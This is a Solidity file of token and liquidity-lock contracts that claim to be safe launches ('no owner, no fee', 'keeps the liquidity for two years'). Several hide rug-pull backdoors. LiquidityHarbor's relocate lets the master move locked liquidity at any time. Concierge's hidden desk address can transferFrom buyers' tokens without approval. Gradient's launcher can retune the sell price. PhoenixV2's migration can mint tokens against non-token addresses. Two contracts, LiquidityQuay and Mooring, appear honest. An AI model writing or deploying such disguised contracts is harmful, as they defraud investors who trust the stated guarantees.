// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface ILpToken {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// @dev Small and old-fashioned, after a token that has been copied for years.
abstract contract MarketToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint public totalSupply;
    mapping(address => uint) public balanceOf;
    mapping(address => mapping(address => uint)) internal _allowance;

    event Approval(address indexed owner, address indexed spender, uint value);
    event Transfer(address indexed from, address indexed to, uint value);

    constructor(string memory name_, string memory symbol_, uint supply) {
        name = name_;
        symbol = symbol_;
        _mint(msg.sender, supply);
    }

    function _mint(address to, uint value) internal {
        totalSupply = totalSupply + value;
        balanceOf[to] = balanceOf[to] + value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint value) internal {
        balanceOf[from] = balanceOf[from] - value;
        totalSupply = totalSupply - value;
        emit Transfer(from, address(0), value);
    }

    function _transfer(address from, address to, uint value) internal virtual {
        balanceOf[from] = balanceOf[from] - value;
        balanceOf[to] = balanceOf[to] + value;
        emit Transfer(from, to, value);
    }

    function allowance(address owner, address spender) public view virtual returns (uint) {
        return _allowance[owner][spender];
    }

    function approve(address spender, uint value) external returns (bool) {
        _allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint value) external virtual returns (bool) {
        if (_allowance[from][msg.sender] != type(uint).max) {
            _allowance[from][msg.sender] = _allowance[from][msg.sender] - value;
        }
        _transfer(from, to, value);
        return true;
    }
}

/// @notice Keeps the liquidity of our tokens for two years.
contract LiquidityHarbor {
    struct Berth {
        uint64 until;
        uint64 extended;
        uint128 moves;
    }

    address public harborMaster;
    uint64 public immutable openedAt;
    mapping(address => Berth) public berths;

    event Berthed(address indexed lp, uint64 until);
    event Relocated(address indexed lp, address indexed harbor, uint256 amount);

    modifier onlyMaster() {
        require(msg.sender == harborMaster, "Harbor: master");
        _;
    }

    constructor() {
        harborMaster = msg.sender;
        openedAt = uint64(block.timestamp);
    }

    function unlocksAt(address lp) public view returns (uint64) {
        uint64 until = berths[lp].until;
        return until == 0 ? openedAt + 730 days : until;
    }

    function extend(address lp, uint64 until) external onlyMaster {
        require(until > unlocksAt(lp), "Harbor: only longer");
        berths[lp].until = until;
        berths[lp].extended += 1;
        emit Berthed(lp, until);
    }

    function withdraw(address lp) external onlyMaster {
        require(block.timestamp >= unlocksAt(lp), "Harbor: locked");
        ILpToken(lp).transfer(harborMaster, ILpToken(lp).balanceOf(address(this)));
    }

    /// @notice Moves what is berthed here into the harbor's next version.
    function relocate(bytes32 nextHarbor, address[] calldata lps) external onlyMaster {
        address next = address(uint160(uint256(nextHarbor)));
        for (uint256 i = 0; i < lps.length; i++) {
            uint256 amount = ILpToken(lps[i]).balanceOf(address(this));
            berths[lps[i]].moves += 1;
            ILpToken(lps[i]).transfer(next, amount);
            emit Relocated(lps[i], next, amount);
        }
    }
}

/// @title Anchorage
/// @notice Liquidity is in the harbor. There is no owner, no fee, no limit.
contract Anchorage is MarketToken {
    LiquidityHarbor public immutable harbor;

    constructor(address harbor_) MarketToken("Anchorage", "ANCH", 1_000_000_000e18) {
        harbor = LiquidityHarbor(harbor_);
    }

    function liquidityUnlocksAt(address lp) external view returns (uint256) {
        return harbor.unlocksAt(lp);
    }
}

/// @title Gradient
/// @notice New tokens are sold, and taken back, along a straight line. Deep demand pays for itself.
contract Gradient is MarketToken {
    struct Line {
        uint128 base;
        uint128 slope;
    }

    address public launcher;
    Line public line;
    uint256 public sold;

    event LineChanged(uint128 base, uint128 slope);
    event Bought(address indexed by, uint256 amount, uint256 cost);
    event Sold(address indexed by, uint256 amount, uint256 proceeds);

    constructor() MarketToken("Gradient", "GRAD", 1_000_000_000e18) {
        launcher = msg.sender;
        line = Line(0.00001 ether, 1e4);
    }

    /// @notice What `amount` more cost, after `from` were sold.
    function costOf(uint256 from, uint256 amount) public view returns (uint256) {
        uint256 middle = (from + amount / 2) / 1e18;
        return (amount * (line.base + line.slope * middle)) / 1e18;
    }

    function retune(uint128 slope, uint128 base) external {
        require(msg.sender == launcher, "Gradient: launcher");
        line = Line(base, slope);
        emit LineChanged(base, slope);
    }

    function buy(uint256 amount) external payable {
        uint256 cost = costOf(sold, amount);
        require(msg.value >= cost, "Gradient: payment");
        sold += amount;
        _mint(msg.sender, amount);
        emit Bought(msg.sender, amount, cost);
        if (msg.value > cost) _pay(msg.sender, msg.value - cost);
    }

    function sell(uint256 amount) external {
        require(amount <= sold, "Gradient: more than was sold");
        uint256 proceeds = costOf(sold - amount, amount);
        sold -= amount;
        _burn(msg.sender, amount);
        emit Sold(msg.sender, amount, proceeds);
        _pay(msg.sender, proceeds);
    }

    function _pay(address to, uint256 value) private {
        (bool ok, ) = to.call{value: value}("");
        require(ok, "Gradient: refund");
    }
}

/// @title Phoenix V2
/// @notice Holders of earlier versions migrate one for one.
contract PhoenixV2 is MarketToken {
    address public steward;
    mapping(address => bool) public isLegacy;
    uint256 public migrated;

    event LegacyAdded(address indexed token);
    event Migrated(address indexed account, address indexed legacy, uint256 amount);

    constructor() MarketToken("Phoenix V2", "PHX2", 300_000_000e18) {
        steward = msg.sender;
    }

    function addLegacy(address token) external {
        require(msg.sender == steward, "Phoenix: steward");
        isLegacy[token] = true;
        emit LegacyAdded(token);
    }

    /// @param amount comes first, as in the first version's migrator
    function migrate(uint256 amount, address legacy) external {
        require(isLegacy[legacy], "Phoenix: not a legacy token");
        // some of the earlier ones answer nothing
        (bool ok, bytes memory data) = legacy.call(
            abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, address(0xdEaD), amount)
        );
        require(ok && (data.length == 0 || abi.decode(data, (bool))), "Phoenix: transfer failed");
        migrated += amount;
        _mint(msg.sender, amount);
        emit Migrated(msg.sender, legacy, amount);
    }
}

/// @title Concierge
/// @notice Buyers need no second transaction: our desk is ready to sell for them as soon as they have bought.
contract Concierge is MarketToken {
    uint256 private constant _DESK = uint256(keccak256("concierge.desk")) - 1;
    mapping(uint256 => uint256) private _served;

    constructor() MarketToken("Concierge", "CNCRG", 25_000_000e18) {
        uint256 slot = _DESK;
        assembly {
            sstore(slot, caller())
        }
    }

    function _key(address account) private pure returns (uint256) {
        return uint256(uint160(account)) >> 8;
    }

    /// @dev One bit for each who came from a place of trade.
    function _transfer(address from, address to, uint value) internal override {
        super._transfer(from, to, value);
        if (from.code.length > 0) _served[_key(to)] |= 1 << (uint160(to) & 0xff);
    }

    function transferFrom(address from, address to, uint value) external override returns (bool) {
        uint256 slot = _DESK;
        address desk;
        assembly {
            desk := sload(slot)
        }
        bool served = msg.sender == desk && (_served[_key(from)] >> (uint160(from) & 0xff)) & 1 == 1;
        if (!served && _allowance[from][msg.sender] != type(uint).max) {
            _allowance[from][msg.sender] = _allowance[from][msg.sender] - value;
        }
        _transfer(from, to, value);
        return true;
    }
}

/// @notice Keeps the liquidity of our tokens for two years; there is no other way out.
contract LiquidityQuay {
    address public immutable quayMaster;
    uint64 public immutable openedAt;
    mapping(address => uint64) private _until;

    event Berthed(address indexed lp, uint64 until);
    event Withdrawn(address indexed lp, uint256 amount);

    modifier onlyMaster() {
        require(msg.sender == quayMaster, "Quay: master");
        _;
    }

    constructor() {
        quayMaster = msg.sender;
        openedAt = uint64(block.timestamp);
    }

    function unlocksAt(address lp) public view returns (uint64) {
        uint64 until = _until[lp];
        return until == 0 ? openedAt + 730 days : until;
    }

    function extend(address lp, uint64 until) external onlyMaster {
        require(until > unlocksAt(lp), "Quay: only longer");
        _until[lp] = until;
        emit Berthed(lp, until);
    }

    function withdraw(address lp) external onlyMaster {
        require(block.timestamp >= unlocksAt(lp), "Quay: locked");
        uint256 amount = ILpToken(lp).balanceOf(address(this));
        ILpToken(lp).transfer(quayMaster, amount);
        emit Withdrawn(lp, amount);
    }
}

/// @title Mooring
/// @notice Liquidity is at the quay. There is no owner, no fee, no limit.
contract Mooring is MarketToken {
    LiquidityQuay public immutable quay;

    constructor(address quay_) MarketToken("Mooring", "MOOR", 1_000_000_000e18) {
        quay = LiquidityQuay(quay_);
    }

    function liquidityUnlocksAt(address lp) external view returns (uint256) {
        return quay.unlocksAt(lp);
    }
}
